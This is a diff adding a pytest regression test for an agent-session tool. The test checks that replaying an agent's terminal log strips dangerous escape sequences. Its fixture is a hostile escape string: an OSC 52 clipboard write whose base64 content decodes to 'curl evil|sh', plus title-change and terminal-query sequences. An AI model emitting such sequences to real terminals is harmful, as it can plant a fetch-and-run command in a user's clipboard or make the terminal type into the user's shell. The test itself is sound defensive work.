@@ -800,3 +800,24 @@ def test_the_tmux_start_lock_is_never_waited_on_forever(repo: Path, monkeypatch:
     with host._starting():  # free again: taken at once, and nothing is left behind in the directory
         pass
     assert not [p for p in directory.iterdir() if host.socket in p.name]
+
+
+# -- adv6: attacks on what earlier rounds did not look at ----------------------------------------------------------
+
+
+def test_session_log_replays_colours_but_never_a_clipboard_write_or_a_terminal_query(
+        cli: CLI, repo: Path, tmux_socket: str) -> None:
+    """`session log NAME` wrote the agent's raw terminal stream to the user's terminal: output the repository made
+    the agent print (`cat` of a committed file) could set the user's clipboard (OSC 52), retitle the window, or ask
+    the terminal for a report that it then types into the user's shell. Colours and the text stay."""
+    hostile = (r"\033[31mred\033[0m \033]52;c;Y3VybCBldmlsfHNo\007 \033]0;owned\007 \033[6n \033[?1000h "
+               r"\033P+q544e\033\\ done\n")
+    trusted_config(repo, f"[agents.printer]\ncommand = '''sh -c 'printf \"{hostile}\"; sleep 60' '''\n")
+    cli.ok("worktree", "create", "talk", "--agent", "printer")
+    log = repo / ".worktrees" / ".logs" / "talk.log"
+    wait_for(lambda: log.exists() and b"done" in log.read_bytes())
+    assert b"\x1b]52;" in log.read_bytes()  # the log itself keeps everything (`--json` gives it raw)
+    shown = cli.ok("session", "log", "talk").stdout
+    assert "\x1b[31mred\x1b[0m" in shown and "done" in shown
+    for obeyed in ("\x1b]", "\x1bP", "\x1b[6n", "\x1b[?1000h", "\x07"):
+        assert obeyed not in shown, (obeyed, shown)
